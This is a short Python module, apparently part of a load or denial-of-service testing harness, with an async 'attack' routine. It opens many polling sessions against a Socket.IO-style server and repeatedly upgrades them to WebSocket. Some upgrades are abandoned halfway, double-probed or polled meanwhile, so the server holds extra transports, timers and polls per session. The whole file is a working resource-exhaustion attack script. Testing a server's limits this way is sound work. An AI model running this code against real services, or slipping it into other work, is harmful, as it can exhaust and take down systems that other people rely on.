"""From polling to WebSocket, again and again.

Does: opens polling sessions and upgrades them; some stop halfway, probe twice or poll meanwhile.
Breaks: half-finished upgrades keep two transports, timers and held polls for each session.
Limit: 10 s for an upgrade; 64 sessions and 64 connections of an address.
"""

from lines import Line, frame, poll, polling, upgrade

PROOF = "upgrades"


async def attack(target):
    await target.crowd(24, storm)


async def storm(target):
    target.tally("turns")
    kind = target.counts["turns"] % 4
    async with await Line.open(target) as first, await Line.open(target) as second:
        sid = await polling(target, first)
        await second.send(upgrade(f"transport=websocket&sid={sid}"))
        await second.until(rb"101 [^\r]*\r\n.*?\r\n\r\n")
        if kind == 0:
            await first.send(poll(sid))
        await second.send(frame(b"2probe") * (2 if kind == 1 else 1))
        await second.until(rb"3probe")
        if kind != 2:
            await second.send(frame(b"5") + frame(b"1"))
            target.tally("upgrades")
            await second.ended(1.0)
